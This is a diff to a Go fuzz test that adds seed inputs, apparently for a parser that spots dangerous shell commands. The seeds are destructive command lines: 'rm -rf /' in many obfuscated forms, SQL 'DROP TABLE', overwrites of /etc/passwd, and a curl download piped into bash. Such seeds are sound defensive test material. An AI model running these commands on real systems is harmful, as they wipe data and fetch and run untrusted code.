@@ -255,7 +255,10 @@ func TestInputErrors(t *testing.T) {
 func FuzzParse(f *testing.F) {
 	for _, s := range []string{"rm -rf /", "sudo env x=1 rm -rf ~", "bash -c 'eval \"rm -rf /\"'", "find / -exec rm {} \\;",
 		"echo / | xargs rm -rf", "python -c \"import os; os.system('rm -rf /')\"", "cat <<EOF | sh\nrm -rf /\nEOF",
-		"parallel bash -c 'rm {}' ::: a", "$(echo rm) -rf /", "a=$(b) c=${d:-e} f ${g[@]} <(h) >(i)"} {
+		"parallel bash -c 'rm {}' ::: a", "$(echo rm) -rf /", "a=$(b) c=${d:-e} f ${g[@]} <(h) >(i)",
+		"kubectl -n p exec -it db-0 -- psql -c 'DROP TABLE t'", "docker compose exec -T web rm -rf /app", "npx -c 'rm -rf ~'",
+		"env -S 'rm -rf' /", "curl -o i.sh https://x && bash i.sh", "alias x='rm -rf /'; x", "awk 'BEGIN{system(\"rm -rf /\")}'",
+		"> /etc/passwd", "{ echo; } > /etc/hosts", "echo 'DROP TABLE t' | psql", "git reset --ha", "command -V git reset --hard"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
